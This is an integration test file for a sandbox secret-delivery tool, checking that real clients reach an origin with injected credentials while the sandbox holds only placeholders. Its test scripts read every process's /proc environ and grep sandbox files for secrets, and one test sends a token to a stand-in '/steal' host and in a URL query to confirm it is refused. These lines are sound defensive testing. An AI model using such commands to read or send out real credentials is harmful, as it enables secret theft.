// Secrets that never enter the sandbox (issue 13), end to end as a new user
// tries them: the real `ringfence` binary sets secrets and a profile with a
// `gateway` and a `proxy` entry, a real worker runs identity calls in native
// sandboxes with network proxy, and real clients inside them (curl, Python's
// urllib, Node) reach an HTTPS origin on loopback (tests/proxy/origin.py,
// which records what it received) with the placeholders they were given.
// The tests check both sides: the origin got the values; the sandbox never
// held them (its environment, every process's /proc/PID/environ, its files,
// its output), nor did the store, the worker's log or the audit log.
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "integration/identity_cli_fixture.h"
#include "support/fixture_process.h"

namespace rf::testing {
namespace {

using json = nlohmann::json;

class EdgeCli : public IdentityCli {
 protected:
  void SetUp() override {
    IdentityCli::SetUp();
    if (HasFatalFailure() || IsSkipped()) return;
    cert_ = dir_ + "/origin-cert.pem";
    const std::string gen =
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 "
        "-nodes -keyout " +
        dir_ + "/origin-key.pem -out " + cert_ +
        " -days 2 -subj /CN=origin.test -addext "
        "subjectAltName=DNS:origin.test 2>/dev/null";
    ASSERT_EQ(std::system(gen.c_str()), 0);
    record_ = dir_ + "/origin-requests.jsonl";
    origin_.start(
        {"/usr/bin/python3", RF_PROXY_ORIGIN_PY, "--cert", cert_, "--key", dir_ + "/origin-key.pem",
         "--record", record_, "--port-file", dir_ + "/origin.port"},
        dir_ + "/origin.port", dir_ + "/origin.log");
    plain_.start({"/usr/bin/python3", RF_PROXY_ORIGIN_PY, "--record", record_, "--port-file",
                  dir_ + "/plain.port"},
                 dir_ + "/plain.port", dir_ + "/plain.log");
    port_ = std::to_string(origin_.port());
    gh_token_ = "ghp_" + random_secret().substr(3) + "0123";
  }
  void TearDown() override {
    origin_.stop();
    plain_.stop();
    IdentityCli::TearDown();
  }

  // The Anthropic key by gateway (to the origin), a GitHub-like token by proxy delivery.
  void set_edge_profile(const std::string& proxy_places = "") {
    std::string err;
    ASSERT_EQ(run({"secret", "set", "acme-anthropic"}, secret_, nullptr, &err), 0) << err;
    ASSERT_EQ(run({"secret", "set", "acme-gh"}, gh_token_, nullptr, &err), 0) << err;
    ASSERT_EQ(run({"identity", "profile", "set", "acme", "--level", "project", "--project", "acme",
                   "ANTHROPIC_API_KEY=gateway:acme-anthropic,preset=anthropic,upstream=https://"
                   "origin.test:" +
                       port_,
                   "GH_TOKEN=proxy:acme-gh,host=origin.test:" + port_ + proxy_places},
                  std::nullopt, nullptr, &err),
              0)
        << err;
  }
  Cli& start_edge_worker(const std::string& mode = "per_run") {
    return start_worker(
        {"--sandbox-mode", mode, "--sandbox-network", "proxy", "--sandbox-allow",
         "origin.test:" + port_ + ",plain.test:" + std::to_string(plain_.port()) + ",127.0.0.1/32",
         "--proxy-resolve", "origin.test=127.0.0.1,plain.test=127.0.0.1", "--egress-ca-file",
         cert_});
  }
  std::vector<json> received() {
    std::vector<json> out;
    std::ifstream in(record_);
    for (std::string line; std::getline(in, line);) {
      if (!line.empty()) out.push_back(json::parse(line));
    }
    return out;
  }
  static std::string header(const json& request, std::string name) {
    for (const auto& h : request["headers"]) {
      std::string n = h[0];
      std::transform(n.begin(), n.end(), n.begin(), ::tolower);
      if (n == name) return h[1];
    }
    return "";
  }
  std::vector<json> audit(const std::string& kind) {
    std::string out, err;
    EXPECT_EQ(run({"audit", "show", "--json"}, std::nullopt, &out, &err), 0) << err;
    std::vector<json> found;
    for (const auto& e : json::parse(out)) {
      if (e["kind"] == kind) found.push_back(e);
    }
    return found;
  }
  // Neither value, in any form the redactor knows, nor a redaction of one.
  void expect_no_value_in(const std::string& text, const std::string& where) {
    expect_no_form_in(text, where);
    EXPECT_EQ(text.find(gh_token_), std::string::npos) << "the token in " << where;
    EXPECT_EQ(text.find("[REDACTED"), std::string::npos)
        << "a value was in the sandbox (redacted on its way out) in " << where << ":\n"
        << text;
  }

  std::string cert_, record_, port_, gh_token_;
  FixtureProcess origin_, plain_;
};

// Done when: a gateway-delivered key reaches the upstream while the sandbox
// only ever held a placeholder. curl, Python's urllib and Node, through the
// gateway and through the proxy delivery (TLS terminated with the sandbox's
// own CA, which each trusts through the bundle bound over the image's).
TEST_F(EdgeCli, RealClientsReachTheOriginWithTheValuesWhileTheSandboxHoldsPlaceholders) {
  set_edge_profile();
  Cli& worker = start_edge_worker();
  const std::string https = "https://origin.test:" + port_;
  const std::string script =
      // curl: gateway, then proxy delivery (HTTPS_PROXY from the sandbox's environment).
      "curl -sS -H \"x-api-key: $ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/v1/curl\" >/dev/null"
      " && curl -sS -H \"Authorization: Bearer $GH_TOKEN\" " +
      https +
      "/curl >/dev/null && echo curl ok\n"
      // Python: urllib, the default context (SSL_CERT_FILE), https_proxy from the environment.
      "python3 - <<'EOF'\n"
      "import os, urllib.request as u\n"
      "r = u.Request(os.environ['ANTHROPIC_BASE_URL'] + '/v1/python',"
      " headers={'x-api-key': os.environ['ANTHROPIC_API_KEY']})\n"
      "u.urlopen(r).read()\n"
      "r = u.Request('" +
      https +
      "/python', headers={'Authorization': 'token ' + os.environ['GH_TOKEN']})\n"
      "u.urlopen(r).read()\n"
      "print('python ok')\n"
      "EOF\n"
      // Node: http to the gateway; https through a CONNECT it opens itself
      // (NODE_EXTRA_CA_CERTS names the bundle).
      "node - <<'EOF'\n"
      "const http = require('http'), https = require('https');\n"
      "const e = process.env;\n"
      "http.get(e.ANTHROPIC_BASE_URL + '/v1/node', {headers: {'x-api-key': "
      "e.ANTHROPIC_API_KEY}}, (r) => {\n"
      "  r.resume(); r.on('end', () => {\n"
      "    http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'origin.test:" +
      port_ +
      "'}).on('connect', (res, socket) => {\n"
      "      https.get({host: 'origin.test', port: " +
      port_ +
      ", path: '/node', socket, servername: 'origin.test', agent: false,"
      " headers: {authorization: 'Bearer ' + e.GH_TOKEN}}, (r2) => {\n"
      "        r2.resume(); r2.on('end', () => console.log('node ok', r.statusCode, "
      "r2.statusCode));\n"
      "      }).on('error', (err) => { console.log('node https', err.message); "
      "process.exit(1); });\n"
      "    }).end();\n"
      "  });\n"
      "}).on('error', (err) => { console.log('node http', err.message); process.exit(1); });\n"
      "EOF\n"
      // What the sandbox holds: its environment, every process's, its files.
      "echo '--- env'; env; echo '--- environ'; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' "
      "'\\n'; echo '--- files'; grep -rs . /tmp /workspace | head -200; true";
  std::string out, err;
  ASSERT_EQ(run(call("acme", "r1", {"--identity"}, {"sh", "-c", script}), std::nullopt, &out, &err),
            0)
      << out << err;
  EXPECT_NE(out.find("curl ok\n"), std::string::npos) << out << err;
  EXPECT_NE(out.find("python ok\n"), std::string::npos) << out << err;
  EXPECT_NE(out.find("node ok 200 200\n"), std::string::npos) << out << err;
  // The sandbox had placeholders and the gateway's URL.
  EXPECT_NE(out.find("ANTHROPIC_BASE_URL=http://127.0.0.1:3128/.rf/gw/ANTHROPIC_API_KEY"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("ANTHROPIC_API_KEY=rfph_"), std::string::npos) << out;
  EXPECT_NE(out.find("GH_TOKEN=rfph_"), std::string::npos) << out;
  EXPECT_NE(out.find("SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt"), std::string::npos);
  expect_no_value_in(out, "the sandbox's output");
  expect_no_value_in(err, "the sandbox's stderr");
  // The origin got the values, on every request.
  const auto got = received();
  ASSERT_EQ(got.size(), 6u);
  int gateway = 0, proxied = 0;
  for (const auto& r : got) {
    const std::string path = r["path"];
    if (path.rfind("/v1/", 0) == 0) {
      EXPECT_EQ(header(r, "x-api-key"), secret_) << path;
      ++gateway;
    } else {
      const std::string auth = header(r, "authorization");
      EXPECT_EQ(auth.substr(auth.find(' ') + 1), gh_token_) << path;
      ++proxied;
    }
  }
  EXPECT_EQ(gateway, 3);
  EXPECT_EQ(proxied, 3);
  // Nothing on the host held them either.
  worker.signal(SIGTERM);
  worker.wait(30s);
  const std::string worker_log = worker.out() + worker.err();
  for (const char* f : {"/ringfence.db", "/ringfence.db-wal"}) {
    if (std::filesystem::exists(dir_ + f)) {
      const std::string bytes = slurp_bytes(dir_ + f);
      expect_no_form_in(bytes, f);
      EXPECT_EQ(bytes.find(gh_token_), std::string::npos) << f;
    }
  }
  expect_no_value_in(worker_log, "the worker's log");
  std::string audit_out;
  ASSERT_EQ(run({"audit", "show", "--json"}, std::nullopt, &audit_out, &err), 0) << err;
  expect_no_value_in(audit_out, "the audit log");
  // Each use is in the hash-chained log, by key and secret.
  const auto used = audit("edge.used");
  ASSERT_EQ(used.size(), 6u) << audit_out;
  for (const auto& e : used) {
    const json d = json::parse(e["detail"].dump());
    EXPECT_EQ(d["status"], 200) << e;
    EXPECT_GE(d["substitutions"].get<int>(), 1) << e;
  }
  ASSERT_EQ(run({"audit", "verify"}, std::nullopt, &out, &err), 0) << err;
}

// A placeholder sent where its credential does not go: 403 naming the key,
// nothing reaches the origin, and an audit event says so. An upstream that
// echoes the value back gives the sandbox the placeholder.
TEST_F(EdgeCli,
       AMisplacedPlaceholderGets403AndAnAuditEventAndAnEchoedValueComesBackAsThePlaceholder) {
  set_edge_profile();
  start_edge_worker();
  const std::string plain = "http://plain.test:" + std::to_string(plain_.port());
  const std::string https = "https://origin.test:" + port_;
  std::string out, err;
  ASSERT_EQ(run(call("acme", "r1", {"--identity"},
                     {"sh", "-c",
                      // The token to a host it is not bound to (plain HTTP: the proxy sees it).
                      "curl -sS -i -H \"Authorization: Bearer $GH_TOKEN\" " + plain +
                          "/steal; echo; "
                          // In the query, which its entry does not name.
                          "curl -sS -i \"" +
                          https +
                          "/q?t=$GH_TOKEN\"; echo; "
                          // The origin echoes the header it got: the value, swapped back.
                          "echo \"echo:$(curl -sS -H \"Authorization: Bearer $GH_TOKEN\" '" +
                          https +
                          "/header?name=Authorization')\"; "
                          "echo \"mine:Bearer $GH_TOKEN\""}),
                std::nullopt, &out, &err),
            0)
      << err;
  EXPECT_NE(out.find("HTTP/1.1 403 Forbidden"), std::string::npos) << out;
  EXPECT_NE(out.find("the placeholder of GH_TOKEN is in a plain-HTTP request to plain.test"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("the placeholder of GH_TOKEN is in the query of a request to origin.test"),
            std::string::npos)
      << out;
  const size_t echo = out.find("echo:"), mine = out.find("mine:");
  ASSERT_NE(echo, std::string::npos) << out;
  ASSERT_NE(mine, std::string::npos) << out;
  EXPECT_EQ(out.substr(echo + 5, out.find('\n', echo) - echo - 5),
            out.substr(mine + 5, out.find('\n', mine) - mine - 5));
  expect_no_value_in(out, "the sandbox's output");
  // Only the echo request reached an origin.
  const auto got = received();
  ASSERT_EQ(got.size(), 1u);
  EXPECT_EQ(got[0]["path"], "/header?name=Authorization");
  const auto refused = audit("edge.refused");
  ASSERT_EQ(refused.size(), 2u);
  for (const auto& e : refused) {
    const json d = e["detail"];
    EXPECT_EQ(d["key"], "GH_TOKEN");
    EXPECT_EQ(d["secret"], "acme-gh");
    EXPECT_EQ(d["status"], 403);
    EXPECT_NE(d["reason"].get<std::string>().find("placeholder of GH_TOKEN"), std::string::npos);
  }
}

// A client that insists on HTTP/2 fails loudly, never sending an
// unsubstituted request: the TLS the proxy terminates offers http/1.1 only.
TEST_F(EdgeCli, AClientThatInsistsOnHttp2FailsLoudly) {
  set_edge_profile();
  start_edge_worker();
  const std::string py =
      "import socket, ssl\n"
      "s = socket.create_connection(('127.0.0.1', 3128))\n"
      "s.sendall(b'CONNECT origin.test:" +
      port_ +
      " HTTP/1.1\\r\\n\\r\\n')\n"
      "assert s.recv(4096).startswith(b'HTTP/1.1 200')\n"
      "ctx = ssl.create_default_context()\n"
      "ctx.set_alpn_protocols(['h2'])\n"
      "try:\n"
      "    ctx.wrap_socket(s, server_hostname='origin.test')\n"
      "    print('handshake succeeded')\n"
      "except ssl.SSLError as e:\n"
      "    print('h2 failed:', e)\n";
  std::string out, err;
  ASSERT_EQ(
      run(call("acme", "r1", {"--identity"}, {"python3", "-c", py}), std::nullopt, &out, &err), 0)
      << err;
  EXPECT_NE(out.find("h2 failed:"), std::string::npos) << out;
  EXPECT_NE(out.find("no application protocol"), std::string::npos) << out;
  EXPECT_TRUE(received().empty());
}

// Revocation applies from the next request: a call that keeps asking gets
// 200 until the secret is revoked, 403 after (the bench measures how soon).
TEST_F(EdgeCli, RevokingAGatewaySecretRefusesTheNextRequestsOfARunningCall) {
  set_edge_profile();
  start_edge_worker();
  Cli caller(with_state(
      call("acme", "r1", {"--identity"},
           {"sh", "-c",
            "for i in $(seq 1 60); do curl -s -o /dev/null -w '%{http_code}\\n' -H \"x-api-key: "
            "$ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/v1/loop\"; sleep 0.1; done"})));
  // The first request reached the origin: revoke.
  const auto end = Clock::now() + 30s;
  while (received().empty() && Clock::now() < end) std::this_thread::sleep_for(20ms);
  ASSERT_FALSE(received().empty());
  std::string err;
  ASSERT_EQ(run({"secret", "revoke", "acme-anthropic"}, std::nullopt, nullptr, &err), 0) << err;
  const size_t at_revoke = received().size();
  ASSERT_EQ(caller.wait(60s), 0) << caller.err();
  // Codes in order: 200s, then (after at most one in flight) only 403s.
  std::vector<std::string> codes;
  std::istringstream lines(caller.out());
  for (std::string l; std::getline(lines, l);) codes.push_back(l);
  ASSERT_EQ(codes.size(), 60u) << caller.out();
  EXPECT_EQ(codes.front(), "200");
  EXPECT_EQ(codes.back(), "403");
  const auto first_403 = std::find(codes.begin(), codes.end(), "403");
  EXPECT_TRUE(std::all_of(first_403, codes.end(), [](const auto& c) { return c == "403"; }))
      << caller.out();
  EXPECT_LE(received().size(), at_revoke + 1) << "requests reached the origin after the revocation";
  const auto withdrawn = audit("edge.withdrawn");
  ASSERT_EQ(withdrawn.size(), 1u);
  EXPECT_EQ(withdrawn[0]["detail"]["key"], "ANTHROPIC_API_KEY");
}

// What cannot work is refused before the call runs, saying what to change.
TEST_F(EdgeCli, KeysAtTheEdgeNeedNetworkProxyAndValuesLongEnoughForAPlaceholder) {
  set_edge_profile();
  start_worker({"--sandbox-mode", "per_tool"});  // network none
  std::string out, err;
  EXPECT_NE(run(call("acme", "r1", {"--identity"}, {"true"}), std::nullopt, &out, &err), 0);
  EXPECT_NE(err.find("key ANTHROPIC_API_KEY is delivered by gateway, through the egress proxy; "
                     "this worker's sandboxes have network none"),
            std::string::npos)
      << err;
  ASSERT_EQ(run({"secret", "set", "short-key"}, "abc123", nullptr, &err), 0) << err;
  ASSERT_EQ(run({"identity", "profile", "set", "short", "--level", "project", "--project", "shorty",
                 "K=gateway:short-key,preset=openai"},
                std::nullopt, nullptr, &err),
            0)
      << err;
  EXPECT_NE(run(call("shorty", "r2", {"--identity"}, {"true"}), std::nullopt, &out, &err), 0);
  EXPECT_NE(err.find("key K names secret short-key: the value is 6 bytes; the gateway and proxy "
                     "deliveries need at least 16"),
            std::string::npos)
      << err;
  // A bad entry never reaches the store.
  EXPECT_NE(run({"identity", "profile", "set", "bad", "--level", "project", "--project", "acme",
                 "K=gateway:acme-gh,upstream=http://plain.test"},
                std::nullopt, nullptr, &err),
            0);
  EXPECT_NE(err.find("upstream: \"http://plain.test\" is not an https:// URL"), std::string::npos)
      << err;
  EXPECT_NE(run({"identity", "profile", "set", "bad", "--level", "project", "--project", "acme",
                 "K=proxy:acme-gh,in=query"},
                std::nullopt, nullptr, &err),
            0);
  EXPECT_NE(err.find("host: a proxy delivery needs host=RULE"), std::string::npos) << err;
}

}  // namespace
}  // namespace rf::testing
